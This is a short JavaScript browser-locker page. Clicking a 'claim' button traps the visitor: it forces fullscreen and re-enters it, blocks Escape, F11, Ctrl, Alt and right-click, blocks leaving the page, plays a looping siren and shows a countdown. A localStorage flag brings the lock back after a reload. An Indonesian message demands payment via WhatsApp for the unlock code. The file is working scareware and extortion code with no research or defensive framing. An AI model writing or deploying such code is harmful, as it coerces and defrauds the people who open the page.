const SET = { CODE: "placeholder", MAX: 5, SECONDS: 3600 };
let st = { locked: false, tries: 0, left: SET.SECONDS };
const el = (id) => document.getElementById(id);
function lock() {
  st.locked = true;
  localStorage.setItem('lockActive', 'true');
  el('front').style.display = 'none';
  el('lockScreen').style.display = 'flex';
  const root = document.documentElement;
  if (root.requestFullscreen) root.requestFullscreen();
  el('siren').loop = true;
  el('siren').play();
  document.addEventListener('keydown', (e) => { if (st.locked && (e.key === 'Escape' || e.key === 'F11' || e.ctrlKey || e.altKey)) { e.preventDefault(); e.stopPropagation(); } }, true);
  document.addEventListener('contextmenu', (e) => e.preventDefault());
  document.addEventListener('fullscreenchange', () => { if (st.locked && !document.fullscreenElement) root.requestFullscreen(); });
  window.addEventListener('beforeunload', (e) => { if (st.locked) { e.preventDefault(); e.returnValue = 'File belum terbuka'; } });
  setInterval(() => { st.left--; el('timer').textContent = st.left; el('code').focus(); }, 1000);
}
el('claim').addEventListener('click', lock);
el('send').addEventListener('click', () => {
  if (el('code').value === SET.CODE) { st.locked = false; localStorage.removeItem('lockActive'); location.reload(); }
  else { st.tries++; el('err').textContent = 'Kode salah! Bayar lewat WhatsApp untuk membuka'; }
});
if (localStorage.getItem('lockActive') === 'true') lock();
